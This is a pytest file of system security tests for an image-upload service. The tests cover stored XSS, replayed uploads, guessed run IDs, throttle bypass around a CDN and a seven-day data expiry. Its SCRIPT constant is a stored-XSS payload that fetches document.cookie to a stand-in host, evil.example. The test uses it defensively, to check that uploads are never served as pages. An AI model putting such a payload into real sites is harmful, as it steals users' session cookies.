"""What strangers try on the whole system; docs/security.md has the table."""

from __future__ import annotations

import secrets
from collections.abc import Iterator
from dataclasses import replace

import httpx
import pytest

from emulator.settings import Settings
from emulator.stack import Stack
from system import stack as declared
from tests.system.running import Running
from tests.system.visitor import Visitor, picture

SCRIPT = b"<!doctype html><script>fetch('https://evil.example/' + document.cookie)</script>"


def test_a_page_that_is_uploaded_as_a_picture_is_never_a_page(
    visitor: Visitor, stack: Running
) -> None:
    """Stored XSS: not on the page's origin, not as HTML, not to anyone but the operator."""
    post = visitor.http.post(
        "/api/upload-urls", json={"slot": "content", "content_type": "image/png"}
    ).json()
    assert visitor.upload(post, SCRIPT).status_code in {200, 201, 204}
    stored = stack.client("s3").get_object(Bucket=stack.named("storage"), Key=post["key"])
    assert (stored["Body"].read(), stored["ContentType"]) == (SCRIPT, "image/png")
    for url in (f"{stack.web_url}/{post['key']}", stack.object_url("storage", post["key"])):
        assert SCRIPT not in httpx.get(url, headers={"Accept": "text/html"}).content
    # Links are for what the worker has written; there are none for uploads.
    admission = visitor.admit()
    assert set(admission["links"]) == {"events", "preview", "result", "expires_at"}
    page = visitor.http.get("/")
    assert page.headers["x-content-type-options"] == "nosniff"
    assert "script-src 'self'" in page.headers["content-security-policy"]


def test_an_upload_that_is_replayed_changes_no_painting_and_fills_no_storage(
    visitor: Visitor, stack: Running
) -> None:
    admission = visitor.begin()
    run_id, content = admission["run_id"], admission["uploads"]["content"]
    assert visitor.finish(run_id)["state"] == "succeeded"
    paid = visitor.settled(run_id)["spent_microusd"]
    painting = httpx.get(admission["links"]["result"])
    for seed in (7, 8, 9):
        assert visitor.upload(content, picture(seed=seed)).status_code in {200, 201, 204}
    assert visitor.start(run_id).status_code == 202
    assert httpx.get(admission["links"]["result"]).headers["etag"] == painting.headers["etag"]
    assert visitor.settled(run_id)["spent_microusd"] == paid
    s3 = stack.client("s3")
    kept = s3.list_objects_v2(Bucket=stack.named("storage"), Prefix=f"runs/{run_id}/")["Contents"]
    assert [o["Key"] for o in kept if o["Key"].endswith("/content")] == [f"runs/{run_id}/content"]


def test_guesses_learn_nothing_and_start_nothing(visitor: Visitor) -> None:
    before = visitor.budget()
    for _ in range(3):
        guess = secrets.token_hex(16)
        answers = [
            visitor.http.get(f"/api/runs/{guess}"),
            visitor.post(f"/api/runs/{guess}/links", {}),
            visitor.post(f"/api/runs/{guess}/stop", {}),
        ]
        assert [answer.status_code for answer in answers] == [404] * 3
        assert visitor.start(guess).status_code == 422
    assert visitor.budget()["reserved_microusd"] == before["reserved_microusd"]


@pytest.fixture
def flooded() -> Iterator[Stack]:
    """A stack of its own: who floods a shared one throttles the tests after it."""
    with Stack(replace(Settings(), aws_port=0, edge_port=0)) as stack:
        yield stack


@pytest.mark.needs("own emulator")
def test_a_flood_around_the_cdn_meets_the_same_throttle(flooded: Stack) -> None:
    """The throttle is the stage's: who fills it by one way is refused by every other one, too."""
    deployment = flooded.emulator.deployment
    assert deployment is not None
    api, stage = deployment.api_id, declared.declaration()["api"]["stage"]
    burst = declared.declaration()["api"]["throttle"]["POST /api/runs"]["burst"]
    ways = [
        (f"{flooded.aws_url}/restapis/{api}/{stage}/_user_request_/api/runs", {}),
        (f"{flooded.aws_url}/{stage}/api/runs",
         {"Host": f"{api}.execute-api.localhost.localstack.cloud"}),
        (f"{flooded.edge_url}/api/runs", {}),
    ]  # fmt: skip

    def status(way: int) -> int:
        url, headers = ways[way]
        return http.post(url, json={}, headers=headers).status_code

    with httpx.Client() as http:
        flood = [status(0) for _ in range(4 * burst)]
        assert set(flood) == {400, 429}
        assert flood[0] == 400
        # A way with a bucket of its own would let so many through.
        for way in range(len(ways)):
            answers = [status(way) for _ in range(burst)]
            assert 429 in answers, ways[way]
        assert http.get(f"{flooded.edge_url}/api/budget").status_code == 200


def test_pictures_and_orders_are_deleted_after_seven_days(stack: Running) -> None:
    """The rules that are deployed; that S3 keeps them is in tests/unit/s3/test_s3_lifecycle.py."""
    found = stack.client("s3").get_bucket_lifecycle_configuration(Bucket=stack.named("storage"))[
        "Rules"
    ]
    rules = {rule["Filter"]["Prefix"]: rule for rule in found if "Expiration" in rule}
    assert set(rules) == {"runs/", "orders/"}
    for rule in rules.values():
        assert rule["Status"] == "Enabled"
        assert rule["Expiration"] == {"Days": 7}
